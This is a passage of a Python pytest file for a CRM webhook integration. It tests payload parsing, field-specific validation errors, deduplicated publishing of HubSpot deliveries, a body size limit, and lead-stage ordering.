    ].events
    assert (event.type, event.lead.crm_id, event.owner) == ("crm.owner_assigned", "88", "sam@acme.io")
    [event] = from_generic(
        {
            "type": "activity.logged",
            "data": {"crm_id": "88", "activity": {"type": "meeting", "subject": "Demo"}},
        }
    )[0].events
    assert event.activity == events.CrmActivity(type="meeting", subject="Demo")
    [event] = from_generic(
        {
            "type": "contact.updated",
            "data": {
                "email": "a@b.io",
                "stage": "mql",
                "occurred_at": "2026-11-24T08:00:00+01:00",
                "properties": {"title": "CTO", "seats": 40},
            },
        }
    )[0].events
    assert (event.type, event.lifecycle_stage, event.properties) == (
        "crm.contact_updated",
        "mql",
        {"title": "CTO", "seats": "40"},
    )
    assert event.occurred_at == datetime(2026, 11, 24, 7, tzinfo=UTC)


@pytest.mark.parametrize(
    ("payload", "problem"),
    [
        (
            {"type": "deal.stage_changed", "data": {"email": "a@b.io"}},
            "data.stage: required for deal.stage_changed",
        ),
        ({"type": "owner.assigned", "data": {"email": "a@b.io"}}, "data.owner: required for owner.assigned"),
        (
            {"type": "activity.logged", "data": {"email": "a@b.io"}},
            "data.activity: required for activity.logged",
        ),
        ({"type": "contact.updated", "data": {}}, "data.email: name the lead by email or crm_id"),
        (
            {"type": "contact.updated", "data": {"email": "not-an-address"}},
            "data.email: not a valid email address",
        ),
        ({"type": "deal.won", "data": {"email": "a@b.io"}}, "type: Input should be"),
        ({"type": "contact.updated", "data": {"emial": "a@b.io"}}, "data.emial: unknown field"),
        ({"type": "contact.updated", "data": {"email": "a@b.io", "amount": -1}}, "data.amount"),
        ({"type": "contact.updated"}, "data: Field required"),
        ([], "expected a JSON object"),
    ],
)
def test_a_bad_generic_body_names_the_field(payload: Any, problem: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        from_generic(payload)
    assert any(p.startswith(problem) for p in caught.value.problems), caught.value.problems


# --- receiving -------------------------------------------------------------------------------------


def test_a_delivery_is_published_once_however_often_it_arrives() -> None:
    ledger, publisher = FakeLedger(), RecordingPublisher()
    batch = from_hubspot(
        deal_stage(), deal_stage(attemptNumber=1), deal_stage(eventId=101, propertyValue="closedwon")
    )
    receipt = events.receive(batch, ledger, publisher, NOW)
    assert receipt.summary() == {"published": 2, "duplicates": 1, "ignored": 0}
    assert [e.detail["crm_stage"] for e in publisher.events] == ["presentationscheduled", "closedwon"]
    assert ledger.records[("hubspot", "62515:7:100:9001")] == ["hubspot:62515:7:100:9001"]
    again = events.receive(from_hubspot(deal_stage(attemptNumber=2)), ledger, publisher, NOW)
    assert again.summary() == {"published": 0, "duplicates": 1, "ignored": 0} and len(publisher.events) == 2


def test_nothing_is_remembered_when_the_bus_fails_so_the_retry_publishes() -> None:
    ledger = FakeLedger()
    with pytest.raises(RuntimeError):
        events.receive(from_hubspot(deal_stage()), ledger, RecordingPublisher(fail_times=1), NOW)
    assert ledger.records == {}
    publisher = RecordingPublisher()
    assert events.receive(from_hubspot(deal_stage()), ledger, publisher, NOW).summary()["published"] == 1


def test_ignored_deliveries_publish_and_record_nothing() -> None:
    ledger, publisher = FakeLedger(), RecordingPublisher()
    receipt = events.receive(
        from_hubspot(deal_stage(subscriptionType="deal.deletion")), ledger, publisher, NOW
    )
    assert receipt.summary() == {"published": 0, "duplicates": 0, "ignored": 1}
    assert ledger.records == {} and publisher.events == []


def test_a_crm_event_must_name_its_lead() -> None:
    with pytest.raises(ValidationError, match="email or crm_id"):
        events.CrmEvent(
            event_id="x",
            type="crm.contact_updated",
            provider="generic",
            occurred_at=NOW,
            lead=events.CrmLead(),
        )


def test_bodies_over_a_megabyte_are_refused() -> None:
    events.check_size(b"x" * events.MAX_BODY_BYTES)
    with pytest.raises(InvalidInput, match="at most 1024 KB"):
        events.check_size(b"x" * (events.MAX_BODY_BYTES + 1))


def test_a_late_crm_stage_change_never_moves_a_lead_back() -> None:
    from kindling.crm.sales import outdated

    moved = datetime(2026, 11, 20, tzinfo=UTC)
    earlier = moved - timedelta(days=2)
    assert outdated("customer", moved, "sql", earlier), "a held sql from before the sale"
    assert not outdated("mql", moved, "sql", earlier), "an older move that is still forward applies"
    assert not outdated("customer", moved, "sql", moved + timedelta(days=1)), "a newer change applies"
    assert outdated("recycled", moved, "closed_lost", earlier)
